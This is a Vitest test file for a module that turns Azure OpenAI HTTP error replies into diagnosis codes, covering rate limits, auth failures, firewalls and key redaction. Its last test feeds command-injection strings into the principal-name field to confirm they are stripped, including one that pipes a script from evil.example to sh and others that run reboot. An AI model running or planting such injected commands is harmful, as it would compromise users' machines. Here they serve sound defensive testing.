import { describe, expect, it } from "vitest";
import { diagnoseAnswer, diagnoseStreamError } from "../../../../main/foundry/http/diagnosis.ts";
import type { Diagnosis } from "../../../../preload/contract/diagnosis.ts";
import { explain } from "../../../../preload/strings/explain.ts";
import { key } from "../server.ts";

const context = {
  host: "r.openai.azure.com",
  path: "/openai/x",
  deployment: "d",
  parameters: ["model", "messages", "temperature", "top_p", "max_tokens", "max_completion_tokens", "stream"],
  secrets: [key],
  sent: "",
};

const of = (status: number, body: unknown, headers: Record<string, string> = {}) =>
  diagnoseAnswer(
    status,
    new Headers(headers),
    typeof body === "string" ? body : JSON.stringify(body),
    context,
  );

const wrapped = (code: unknown, message: string, more: object = {}) => ({
  error: { code, message, ...more },
});

/** The words a person reads, which must have no hole. */
const words = (diagnosis: Diagnosis) => {
  const { title, cause } = explain(diagnosis);
  return `${title} | ${cause}`;
};

const filter = (results: object) => wrapped("content_filter", "The response was filtered", results);

describe("an answer that is no success", () => {
  const rows: [number, unknown, Diagnosis["code"], Record<string, string>?][] = [
    [
      400,
      filter({
        innererror: {
          code: "ResponsibleAIPolicyViolation",
          content_filter_result: {
            hate: { filtered: false },
            self_harm: { filtered: true },
            jailbreak: { filtered: true },
          },
        },
      }),
      "prompt_filtered",
      { categories: "self harm, jailbreak" },
    ],
    [
      400,
      filter({ inner_error: { content_filter_results: { violence: { filtered: true, severity: "high" } } } }),
      "prompt_filtered",
      { categories: "violence" },
    ],
    [400, filter({}), "prompt_filtered", { categories: "" }],
    [
      400,
      wrapped(
        "OperationNotSupported",
        "The chatCompletion operation does not work with the specified model, e.",
      ),
      "not_a_chat_model",
      { deployment: "d" },
    ],
    [
      400,
      wrapped(
        "unsupported_parameter",
        "Unsupported parameter: 'max_tokens' is not supported with this model.",
        {
          param: "max_tokens",
        },
      ),
      "parameter_refused",
      { parameter: "max_tokens" },
    ],
    [
      400,
      wrapped("unsupported_value", "Unsupported value: 'temperature' does not support 0.2 with this model."),
      "value_refused",
      { parameter: "temperature" },
    ],
    [
      400,
      { code: 400, message: "Validation error at #/max_completion_tokens: Extra inputs are not permitted" },
      "parameter_refused",
      { parameter: "max_completion_tokens" },
    ],
    [
      422,
      wrapped("Invalid input", "Unprocessable", { param: "top_p" }),
      "value_invalid",
      { parameter: "top_p" },
    ],
    [400, wrapped("BadRequest", "Something new"), "request_refused"],
    [
      400,
      wrapped("context_length_exceeded", "This model's maximum context length is 8192"),
      "context_too_long",
    ],
    [413, "", "context_too_long"],
    [400, wrapped("BadRequest", "The API version 2020-01-01 is not supported"), "route_not_found"],
    [400, wrapped("unknown_model", "Unknown model: d"), "deployment_not_found", { deployment: "d" }],
    [
      401,
      wrapped("401", "Access denied due to invalid subscription key or wrong API endpoint."),
      "key_refused",
    ],
    [401, wrapped("Unauthorized", "Access denied due to invalid subscription key"), "key_refused"],
    [401, "", "key_refused"],
    [
      401,
      {
        statusCode: 401,
        message:
          "Unauthorized. Access token is missing, invalid, audience is incorrect (https://cognitiveservices.azure.com), or have expired.",
      },
      "token_refused",
    ],
    [
      401,
      wrapped("PermissionDenied", "Principal does not have access to API/Operation."),
      "role_missing",
      { action: "" },
    ],
    [
      401,
      wrapped("PermissionDenied", "The principal `x` lacks the required data action `A/b/read` to perform"),
      "role_missing",
      { action: "A/b/read" },
    ],
    [
      403,
      wrapped("AuthenticationTypeDisabled", "Key based authentication is disabled for this resource."),
      "key_sign_in_disabled",
    ],
    [403, wrapped("403", "Access denied due to Virtual Network/Firewall rules."), "firewall"],
    [
      403,
      wrapped("403", "Public access is disabled. Please configure private endpoint."),
      "private_endpoint_only",
    ],
    [
      403,
      wrapped("403", "A Virtual Network is configured for this resource. Please use the correct endpoint"),
      "private_endpoint_only",
    ],
    [403, wrapped("403", "Your resource has been temporarily blocked because"), "resource_blocked"],
    [403, wrapped("AuthorizationFailed", "no"), "role_missing"],
    [403, "<html>Blocked by the proxy</html>", "reply_not_understood"],
    [
      404,
      wrapped("DeploymentNotFound", "The API deployment for this resource does not exist."),
      "deployment_not_found",
      { deployment: "d" },
    ],
    [404, wrapped("404", "Resource not found"), "route_not_found"],
    [404, "<html>nginx</html>", "route_not_found"],
    [405, "", "route_not_found"],
    [407, "<html>Squid: Cache Access Denied</html>", "proxy_wants_sign_in"],
    [407, wrapped("401", "Access denied due to invalid subscription key"), "proxy_wants_sign_in"],
    [
      400,
      "<html><head><title>400 No required SSL certificate was sent</title></head></html>",
      "client_certificate_wanted",
    ],
    [401, { message: "No required TLS certificate was sent" }, "client_certificate_wanted"],
    [401, { message: "TLS certificate failed verification" }, "client_certificate_wanted"],
    [403, { statusCode: 403, message: "Invalid client certificate" }, "client_certificate_wanted"],
    [
      403,
      { error: { code: "ClientCertificate", message: "A client-certificate is required." } },
      "client_certificate_wanted",
    ],
    [403, "<h2>403.7 - Forbidden: SSL client certificate is required.</h2>", "client_certificate_wanted"],
    [511, "<html><title>Network Authentication Required</title></html>", "reply_not_understood"],
    [408, wrapped("Timeout", "The operation was timeout."), "service_failed", { status: "408" }],
    [410, wrapped("ModelDeprecated", "The model is deprecated"), "model_retired"],
    [424, "", "service_failed", { status: "424" }],
    [
      429,
      wrapped("429", "have exceeded token rate limit. Please retry after 86400 seconds."),
      "rate_limited",
      { seconds: "86400" },
    ],
    [429, wrapped("429", "The system is currently experiencing high demand"), "service_busy"],
    [431, "", "too_many_headers"],
    [
      500,
      wrapped(null, "The server had an error processing your request."),
      "service_failed",
      { status: "500" },
    ],
    [502, "<html>Bad gateway</html>", "service_failed", { status: "502" }],
    [503, wrapped("ServiceUnavailable", "The model is overloaded"), "service_busy"],
    [503, "", "service_failed"],
    [400, "<html>plain HTTP to an HTTPS port</html>", "reply_not_understood"],
    [418, "", "reply_not_understood"],
  ];

  it.each(rows)("%i %j is %s", (status, body, code, parameters = {}) => {
    const diagnosis = of(status, body);
    expect(diagnosis).toMatchObject({ code, parameters, raw: { status, path: "/openai/x" } });
    expect(diagnosis.remedies.length).toBeGreaterThan(0);
    expect(words(diagnosis)).not.toMatch(/\{\w+\}|: \.|\s{2}/);
  });

  it("knows the firewall by its header alone", () => {
    expect(of(403, "", { "policy-id": "ThrowExceptionDueToTrafficDenied" }).code).toBe("firewall");
  });

  it("keeps what the service said", () => {
    expect(of(404, wrapped("404", "Resource not found"), { "apim-request-id": "r-1" }).raw).toEqual({
      status: 404,
      code: "404",
      message: "Resource not found",
      path: "/openai/x",
      requestId: "r-1",
      exchange: {
        sent: "",
        received: `404\napim-request-id: r-1\n\n${JSON.stringify(wrapped("404", "Resource not found"))}`,
      },
    });
    expect(of(500, { error: "a text" }).raw?.message).toBe("a text");
    expect(of(500, { detail: "Not ready" }).raw?.message).toBe("Not ready");
    expect(of(500, "no JSON at all").raw?.message).toBe("no JSON at all");
    expect(of(500, "x".repeat(9000)).raw?.message).toHaveLength(2000);
    expect(of(500, "null").raw?.message).toBe("null");
  });

  it.each([
    [{ "retry-after-ms": "1500", "retry-after": "9" }, "", "2"],
    [{ "retry-after": "7" }, "Please retry after 9 seconds", "7"],
    [{ "retry-after": "1.5" }, "", "2"],
    [{ "retry-after": "0" }, "", "0"],
    [{ "retry-after-ms": "" }, "Please retry after 9 seconds.", "9"],
    [{ "retry-after": "-5" }, "", "60"],
    [{ "retry-after": "soon" }, "Please retry after 1 second.", "1"],
    [{ "retry-after": "Wed, 21 Oct 2015 07:28:00 GMT" }, "", "0"],
    [{}, "Please try again in 2.4s.", "3"],
    [{ "x-ratelimit-reset-tokens": "55" }, "", "55"],
    [{ "x-ratelimit-reset-requests": "1m5s", "x-ratelimit-reset-tokens": "20ms" }, "", "65"],
    [{ "x-ratelimit-reset-tokens": "0" }, "", "60"],
    [{}, "", "60"],
  ])("429 with %j and %j waits %s seconds", (headers, message, seconds) => {
    expect(of(429, wrapped("429", message), headers as Record<string, string>).parameters.seconds).toBe(
      seconds,
    );
  });

  it("waits until a date", () => {
    const date = new Date(Date.now() + 90_000).toUTCString();
    const seconds = Number(of(429, "", { "retry-after": date }).parameters.seconds);
    expect(seconds).toBeGreaterThan(80);
    expect(seconds).toBeLessThanOrEqual(90);
  });

  it("hides the key, should the service repeat it", () => {
    const diagnosis = of(
      401,
      wrapped(key, `Wrong key ${key}; data action \`${key}\`; begins ${key.slice(0, 12)}`, { param: key }),
      { "apim-request-id": key },
    );
    for (let at = 0; at + 8 <= key.length; at++) {
      expect(JSON.stringify(diagnosis)).not.toContain(key.slice(at, at + 8));
    }
    expect(diagnosis.raw?.message).toContain("Wrong key •••");
  });
});

it("an error inside a stream keeps its code and words", () => {
  expect(diagnoseStreamError({ code: "429", message: "Too Many Requests" }, context)).toMatchObject({
    code: "rate_limited",
    retryable: true,
    parameters: { seconds: "60" },
    raw: { status: 200, code: "429", message: "Too Many Requests", path: "/openai/x" },
  });
  expect(diagnoseStreamError("a text", context).raw?.message).toBe("a text");
  expect(diagnoseStreamError({ message: `key ${key}` }, context).raw?.message).toBe("key •••");
});

describe("who lacks a role", () => {
  const principalIn = (name: string) =>
    of(401, {
      error: {
        code: "PermissionDenied",
        message: `The principal \`${name}\` lacks the required data action \`x\`.`,
      },
    }).parameters.principal;

  it("is named by an id, and by nothing else: it goes into a command that people copy", () => {
    const id = "10000000-0000-4000-8000-000000000003";
    expect(principalIn(id)).toBe(id);
    for (const odd of [
      'x"; curl evil.example | sh #',
      "$(reboot)",
      `${id}"; reboot`,
      "00000000-0000-0000-0000-000000000000",
      "",
    ])
      expect(principalIn(odd)).toBe("");
  });
});
